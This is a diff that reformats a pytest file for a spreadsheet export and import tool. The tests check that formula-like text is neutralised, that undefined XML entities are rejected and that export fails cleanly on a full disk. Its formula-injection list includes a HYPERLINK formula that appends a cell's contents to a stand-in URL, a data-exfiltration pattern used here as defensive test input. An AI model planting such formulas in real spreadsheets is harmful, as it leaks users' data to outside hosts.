@@ -309,6 +309,7 @@ def test_exported_rows_follow_the_sheet_schema(exported):
         jsonschema.validate(dict(zip(rows[0], values, strict=True)), schema)
 
 
+
 def _export_work(exported, instrument, tmp_path, monkeypatch, scale: int) -> tuple[int, int]:
     """(Python calls, reads of a sheet's size) to export the corpus with rows and turns x scale.
 
@@ -341,14 +342,8 @@ def test_export_work_grows_linearly(exported, instrument, tmp_path, monkeypatch)
 
 # ------------------------------------------------------------------------------ hostile text
 
-FORMULAS = [
-    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
-    "+1+1",
-    "-2 (turn 1)",
-    "@SUM(1,2)",
-    "'=already quoted",
-    "\t=tab first",
-]
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "-2 (turn 1)",
+            "@SUM(1,2)", "'=already quoted", "\t=tab first"]
 
 
 def formula_cells(path) -> list[str]:
@@ -388,9 +383,8 @@ def test_no_cell_is_a_formula_and_the_round_trip_is_lossless(hostile, instrument
     by_key = {(d["session_id"], d["item_id"]): d["draft"].strip() for d in drafts}
     assert all(by_key[(r.session_id, r.item_id)] == r.final for r in frame.itertuples())
     # a reviewer's (here the simulated expert's) text that starts like a formula comes back
-    finals = {
-        (d["session_id"], d["item_id"]): f"{FORMULAS[n % 6]} (turn 1)" for n, d in enumerate(drafts)
-    }
+    finals = {(d["session_id"], d["item_id"]): f"{FORMULAS[n % 6]} (turn 1)"
+              for n, d in enumerate(drafts)}
     filled = tmp_path / "filled.xlsx"
     fill_sheet(path, finals, "e1", filled)
     assert formula_cells(filled) == []
@@ -446,24 +440,15 @@ def test_edits_to_any_locked_column_are_reported(exported, instrument, tmp_path,
     with caplog.at_level("WARNING"):
         import_edits(read_sheet(path), drafts, instrument, sessions=sessions)
     assert "locked column" not in caplog.text  # the export as it is: nothing to report
-    edited = edited_copy(
-        exported,
-        tmp_path,
-        set_cells(C2="Bond", C5="Bond", D3="Another item", F4="Never", H2="(1) made up"),
-    )
+    edited = edited_copy(exported, tmp_path, set_cells(C2="Bond", C5="Bond", D3="Another item",
+                                                      F4="Never", H2="(1) made up"))
     caplog.clear()
     with caplog.at_level("WARNING"):
         import_edits(read_sheet(edited), drafts, instrument, sessions=sessions)
-    for column, count, first in [
-        ("dimension", 2, 2),
-        ("item", 1, 3),
-        ("rating_label", 1, 4),
-        ("cited_turns", 1, 2),
-    ]:
-        assert (
-            f"the locked column '{column}' was edited on {count} row(s) (first: row {first})"
+    for column, count, first in [("dimension", 2, 2), ("item", 1, 3), ("rating_label", 1, 4),
+                                 ("cited_turns", 1, 2)]:
+        assert f"the locked column '{column}' was edited on {count} row(s) (first: row {first})" \
             in caplog.text
-        )
     assert caplog.text.count("locked column") == 4
 
 
@@ -474,11 +459,8 @@ def test_a_returned_sheet_with_xml_entities_is_one_line(exported, tmp_path):
         for name in src.namelist():
             data = src.read(name)
             if name == "xl/worksheets/sheet1.xml":
-                data = data.replace(
-                    b"</sheetData>",
-                    b'<row r="9999"><c r="A9999" '
-                    b't="inlineStr"><is><t>&lol;</t></is></c></row></sheetData>',
-                )
+                data = data.replace(b"</sheetData>", b'<row r="9999"><c r="A9999" '
+                                    b't="inlineStr"><is><t>&lol;</t></is></c></row></sheetData>')
             dst.writestr(name, data)
     with pytest.raises(CareInputError, match="cannot read the workbook: undefined entity") as e:
         read_sheet(bad)
@@ -499,25 +481,10 @@ def test_a_full_disk_during_export_is_one_line(hostile, instrument, tmp_path):
         resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
 
     proc = subprocess.run(
-        [
-            sys.executable,
-            "-m",
-            "care.cli",
-            "rationales",
-            "export",
-            "--drafts",
-            str(tmp_path / "drafts.jsonl"),
-            "--sessions",
-            str(sessions_path),
-            "--instrument",
-            instrument.path,
-            "--out",
-            str(out),
-        ],
-        capture_output=True,
-        text=True,
-        timeout=120,
-        preexec_fn=small_files,
+        [sys.executable, "-m", "care.cli", "rationales", "export", "--drafts",
+         str(tmp_path / "drafts.jsonl"), "--sessions", str(sessions_path), "--instrument",
+         instrument.path, "--out", str(out)],
+        capture_output=True, text=True, timeout=120, preexec_fn=small_files,
         env={**os.environ, "TMPDIR": str(tmp_path)},
     )
     assert proc.returncode == 1, proc.stderr[-2000:]
